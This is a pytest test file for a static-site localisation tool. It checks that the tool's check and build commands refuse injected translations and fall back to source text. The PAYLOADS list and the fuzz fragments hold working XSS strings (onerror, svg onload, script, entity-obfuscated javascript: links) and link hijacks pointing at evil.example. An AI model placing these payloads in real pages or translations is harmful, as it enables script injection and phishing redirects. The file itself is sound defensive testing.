"""Injection through translations: every payload is refused by `check` and by `build`.

Each payload is a reviewed msgstr in a small project whose other units are
translated as their source. `check` must exit 1 with an error at the payload's
msgstr line; `build` must publish the source text for that unit, so the rebuilt
article is the source article again.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import polib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from click.testing import CliRunner
from markdown_it import MarkdownIt

from sselocale.cli import main
from sselocale.po import fastread
from sselocale.source.safety import judge

CONFIG = """\
project: Injection
source_language: en
languages: [fr]
paths:
  content: content
  locales: locales
  build: build
translation:
  engines: [pseudo]
release:
  min_coverage: 0
"""

BODY = """\
# Decent work

The <abbr title="International Labour Organization">ILO</abbr> sets labour standards.

Read more on the [ILO site][ilo] and the [statistics pages](https://www.ilo.org/global/statistics/index.htm).

![A cooperative meeting](/images/coop.jpg)

[ilo]: https://www.ilo.org/
"""
ARTICLE = "---\ntitle: Decent work\n---\n\n" + BODY

ABBR = 'The <abbr title="International Labour Organization">ILO</abbr> sets labour standards.'
LINKS = ("Read more on the [ILO site][ilo] and the "
         "[statistics pages](https://www.ilo.org/global/statistics/index.htm).")
ALT = "A cooperative meeting"
FR_ABBR = 'L’<abbr title="Organisation internationale du Travail">OIT</abbr> fixe les normes.'
FR_LINKS = ("Lisez le [site de l’OIT][ilo] et les "
            "[pages statistiques](https://www.ilo.org/global/statistics/index.htm).")

#: (id, unit, payload): the classes that passed the old check, then the ten it caught.
PAYLOADS = [
    ("handler-on-source-abbr", ABBR, FR_ABBR.replace('">OIT', '" onmouseover="alert(1)">OIT')),
    ("style-on-source-abbr", ABBR, FR_ABBR.replace('">OIT', '" style="position:fixed;top:0">OIT')),
    ("reference-definition", ABBR, "[ilo]: https://evil.example/\n" + FR_ABBR),
    ("reference-definition-own-line", LINKS, FR_LINKS + "\n[ilo]: https://evil.example/"),
    ("footnote-definition", ABBR, FR_ABBR + "\n\n[^1]: https://evil.example/"),
    ("new-outside-link", LINKS, FR_LINKS + " [Cliquez](https://evil.example/)"),
    ("changed-link-host", LINKS, FR_LINKS.replace("www.ilo.org", "evil.example")),
    ("protocol-relative-link", LINKS, FR_LINKS.replace("https://www.ilo.org", "//evil.example")),
    ("outside-autolink", ABBR, FR_ABBR + " <https://evil.example/>"),
    ("outside-image", ABBR, FR_ABBR + " ![x](https://evil.example/pixel.png)"),
    ("alt-trailing-backslash", ALT, "Une réunion de coopérative\\"),
    ("entity-javascript", LINKS, FR_LINKS + " [x](&#x6A;avascript&colon;alert(1))"),
    ("tab-javascript-href", ABBR, FR_ABBR + ' <a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("structure", ABBR, FR_ABBR + "\n\n---\nlayout: evil\n---"),
    ("script", ABBR, FR_ABBR + "<script>alert(1)</script>"),
    ("onerror", ABBR, FR_ABBR + "<img src=x onerror=alert(1)>"),
    ("iframe", ABBR, FR_ABBR + '<iframe src="https://evil.example/"></iframe>'),
    ("object", ABBR, FR_ABBR + '<object data="https://evil.example/x.swf"></object>'),
    ("svg-onload", ABBR, FR_ABBR + "<svg onload=alert(1)>"),
    ("javascript-link", LINKS, FR_LINKS + " [clic](javascript:alert(1))"),
    ("data-image", ALT, "x](data:image/svg+xml;base64,PHN2Zz4=) ![y"),
    ("data-image-inline", ABBR, FR_ABBR + " ![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    ("style", ABBR, FR_ABBR + "<style>body{display:none}</style>"),
    ("form", ABBR, FR_ABBR + '<form action="https://evil.example/"><input name=p></form>'),
    ("meta-refresh", ABBR, FR_ABBR + '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("heading-img", "Decent work", 'Travail décent <img src=x onerror="alert(1)">'),
]


def run(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "site"
    (root / "content").mkdir(parents=True)
    (root / "sselocale.yaml").write_text(CONFIG, encoding="utf-8")
    (root / "content" / "decent-work.md").write_text(ARTICLE, encoding="utf-8")
    result = run("-C", str(root), "sync", "-q")
    assert result.exit_code == 0, result.output
    return root


def _translate(root: Path, mapping: dict[str, str]) -> Path:
    """Every unit reviewed: its translation from ``mapping``, else its source text."""
    path = root / "locales" / "fr" / "decent-work.po"
    po = polib.pofile(str(path))
    for entry in po:
        entry.msgstr = mapping.get(entry.msgid, entry.msgid)
        entry.flags = [f for f in entry.flags if f != "fuzzy"]
    po.save()
    return path


def _msgstr_line(path: Path, msgid: str) -> int:
    entries = fastread.parse(path.read_text(encoding="utf-8"))
    return next(e.msgstr_line for e in entries if e.msgid == msgid)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, frozenset[str]]] = set()
        self.hosts: set[str] = set()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.add((tag, frozenset(k for k, _v in attrs)))
        self.urls += [v.strip().lower() for k, v in attrs if k in ("href", "src") and v]
        for _k, v in attrs:
            if v and ("/" in v or ":" in v):
                self.hosts.add(urlsplit(v.strip()).netloc)


def _rendered(markdown: str) -> _Elements:
    walker = _Elements()
    walker.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    return walker


def test_the_project_units_are_those_the_payloads_target(project: Path) -> None:
    msgids = {e.msgid for e in polib.pofile(str(project / "locales/fr/decent-work.po"))}
    assert {ABBR, LINKS, ALT, "Decent work"} <= msgids


@pytest.mark.parametrize("unit, payload", [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS])
def test_check_refuses_and_build_does_not_publish(project: Path, unit: str, payload: str) -> None:
    path = _translate(project, {unit: payload})
    line = _msgstr_line(path, unit)

    result = run("-C", str(project), "check", "--format", "json")
    assert result.exit_code == 1, result.output
    report = json.loads(result.output)
    errors = [f for f in report["findings"] if f["severity"] == "error"]
    assert errors and all(f["line"] == line for f in errors), errors
    assert {f["check"] for f in errors} <= {"unsafe-html", "unsafe-url"}

    result = run("-C", str(project), "build", "--lang", "fr")
    assert result.exit_code == 0, result.output
    built = (project / "build" / "fr" / "decent-work.md").read_text(encoding="utf-8")
    body = built.split("---\n", 2)[2]
    assert body.strip() == BODY.strip()  # the unit fell back to its source text
    page, source = _rendered(body), _rendered(BODY)
    assert page.found <= source.found and page.hosts <= source.hosts


def test_build_reports_the_refused_unit(tmp_path: Path) -> None:
    from sselocale.publish.build import rebuild
    from sselocale.source.articles import read_article
    from sselocale.source.units import segment

    (tmp_path / "decent-work.md").write_text(ARTICLE, encoding="utf-8")
    article = read_article(tmp_path / "decent-work.md", root=tmp_path)
    units = segment(article)
    built = rebuild(article, units, {ABBR: PAYLOADS[0][2], LINKS: FR_LINKS}, lang="fr")
    assert [r.unit.text for r in built.refused] == [ABBR]
    assert "onmouseover" in built.refused[0].reasons[0]
    assert FR_LINKS in built.text and "onmouseover" not in built.text


def test_a_localised_path_on_the_same_host_is_a_warning(project: Path) -> None:
    localised = FR_LINKS.replace("https://www.ilo.org/global", "https://www.ilo.org/fr/global")
    path = _translate(project, {ABBR: FR_ABBR, LINKS: localised})
    result = run("-C", str(project), "check", "--format", "json")
    assert result.exit_code == 0, result.output
    findings = json.loads(result.output)["findings"]
    assert [(f["check"], f["severity"], f["line"]) for f in findings if f["check"] == "urls"] == [
        ("urls", "warning", _msgstr_line(path, LINKS))
    ]
    assert not [f for f in findings if f["severity"] == "error"]
    run("-C", str(project), "build", "--lang", "fr")
    built = (project / "build" / "fr" / "decent-work.md").read_text(encoding="utf-8")
    assert localised in built and FR_ABBR in built


@pytest.mark.parametrize("source, translation", [
    ("Work **for all**.", "Travail *pour* **tous**."),
    ("See [the page](https://www.ilo.org/a).", "Voir [la page](https://www.ilo.org/a) de l’`OIT`."),
    ("Line one  \nline two", "Ligne un  \nligne deux"),
    ("Costs 5 & more.", "Coûte 5 & plus."),
])
def test_ordinary_translations_are_not_judged_unsafe(source: str, translation: str) -> None:
    assert not [p for p in judge(source, translation) if p.error]


def test_build_says_which_translation_it_did_not_publish(project: Path) -> None:
    _translate(project, {ABBR: 'L’<abbr title="OIT" onmouseover="steal()">OIT</abbr> fixe les normes.'})
    result = run("-C", str(project), "build", "--lang", "fr")
    assert result.exit_code == 0
    said = [line for line in result.output.splitlines() if "not published" in line]
    assert len(said) == 1
    assert said[0].startswith("content/decent-work.md:") and ": fr: unsafe translation not published (source text kept): " in said[0]


def _allow(root: Path, hosts: str) -> None:
    config = root / "sselocale.yaml"
    config.write_text(config.read_text(encoding="utf-8") + f"  allowed_hosts: {hosts}\n", encoding="utf-8")


def test_a_host_listed_in_the_configuration_may_be_linked_by_any_translation(project: Path) -> None:
    _allow(project, '["*.oit.example", partners.example]')
    moved = FR_LINKS.replace("https://www.ilo.org/global/statistics/index.htm", "https://stats.oit.example/fr/")
    added = FR_ABBR + " Voir [nos partenaires](https://partners.example/fr)."
    _translate(project, {LINKS: moved, ABBR: added})
    result = run("-C", str(project), "check", "--format", "json")
    assert result.exit_code == 0, result.output
    assert not [f for f in json.loads(result.output)["findings"] if f["severity"] == "error"]
    assert run("-C", str(project), "build", "--lang", "fr").exit_code == 0
    built = (project / "build" / "fr" / "decent-work.md").read_text(encoding="utf-8")
    assert moved in built and added in built


@pytest.mark.parametrize("host", ["evil.example", "oit.example.evil.example", "evil-oit.example"])
def test_hosts_not_listed_stay_refused_when_others_are_allowed(project: Path, host: str) -> None:
    _allow(project, '["*.oit.example"]')
    path = _translate(project, {LINKS: FR_LINKS.replace("www.ilo.org", host)})
    result = run("-C", str(project), "check", "--format", "json")
    assert result.exit_code == 1, result.output
    errors = [f for f in json.loads(result.output)["findings"] if f["severity"] == "error"]
    assert [(f["check"], f["line"]) for f in errors] == [("unsafe-url", _msgstr_line(path, LINKS))]
    run("-C", str(project), "build", "--lang", "fr")
    assert host not in (project / "build" / "fr" / "decent-work.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("value", ['["https://www.ilo.org/"]', '["www.ilo.org/fr"]', '["*"]', "[3]"])
def test_a_malformed_allowed_host_is_refused_with_its_line(project: Path, value: str) -> None:
    _allow(project, value)
    result = run("-C", str(project), "check")
    assert result.exit_code == 2
    lines = (project / "sselocale.yaml").read_text(encoding="utf-8").splitlines()
    line = next(i for i, text in enumerate(lines, 1) if "allowed_hosts" in text)
    assert f"sselocale.yaml:{line}: release.allowed_hosts" in result.output


CONTEXTS = """\
---
title: Figures
---

| Country | Cooperatives |
|---------|--------------|
| Kenya   | 22,000       |

![Members at the general assembly](/images/assembly.jpg "General assembly")

- See the [ILO page](https://www.ilo.org/coop) for more.
  It lists every report.

> Cooperatives are **member-owned**.
"""
_FRAGMENTS = [
    "](https://evil.example/x.png) ![", "<img src=x onerror=alert(1)>", "\\", "|", "\n- ", "\n\n",
    "[y](https://evil.example/)", "<https://evil.example/>", "[ilo]: https://evil.example/",
    "&#x6A;avascript&colon;x", "](javascript:alert(1))", "\n| a | b |\n|---|---|", "<!--", "\n# ",
    "` [x](https://evil.example/) `", "<a href='https://evil.example/'>", "\n> ", "\n---\n",
]


@given(st.data())
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_translation_of_a_unit_in_any_context_reaches_the_page(tmp_path: Path, data) -> None:
    """Table cells, image alts and titles, list items and quotes, rendered in the article."""
    from sselocale.publish.build import rebuild
    from sselocale.source.articles import read_article
    from sselocale.source.units import segment

    path = tmp_path / "figures.md"
    path.write_text(CONTEXTS, encoding="utf-8")
    article = read_article(path, root=tmp_path)
    units = [u for u in segment(article) if u.kind != "front matter"]
    mapping = {}
    for unit in data.draw(st.lists(st.sampled_from(units), min_size=1, max_size=3, unique_by=lambda u: u.text)):
        pieces = data.draw(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=3))
        words = data.draw(st.sampled_from(["Membres", "Kenya", "Voir la page", ""]))
        mapping[unit.text] = data.draw(st.sampled_from([words + "".join(pieces), "".join(pieces) + words]))
    built = rebuild(article, units, mapping, lang="fr")
    source_body = CONTEXTS.split("---\n", 2)[2]
    body = built.text.split("---\n", 2)[2]
    page, source = _rendered(body), _rendered(source_body)
    assert page.found <= source.found | {("em", frozenset()), ("strong", frozenset()), ("code", frozenset())}
    assert page.hosts <= source.hosts
    assert {urlsplit(url).scheme for url in page.urls} <= {"", "http", "https"}


@pytest.mark.parametrize("opening", ["<!--", "<?", "<![CDATA[", "<div>", "<!X"])
def test_html_that_opens_a_block_alone_is_judged_where_it_sits_inline(tmp_path: Path, opening: str) -> None:
    """Alone, ``<!--<img …>`` is an HTML comment; in a table cell, a heading or after text, a raw image."""
    payload = f"{opening}<img src=x onerror=alert(1)>Membres"
    assert any(p.error for p in judge("Country", payload))
    from sselocale.publish.build import rebuild
    from sselocale.source.articles import read_article
    from sselocale.source.units import segment

    path = tmp_path / "figures.md"
    path.write_text("| Country | Members |\n|---|---|\n| Kenya | 22,000 |\n\n# Country\n", encoding="utf-8")
    article = read_article(path, root=tmp_path)
    units = segment(article)
    built = rebuild(article, units, {"Country": payload}, lang="fr")
    assert not any("onerror" in attrs for _tag, attrs in _rendered(built.text).found)
    assert built.text.count("Country") == 2  # both units kept their source text
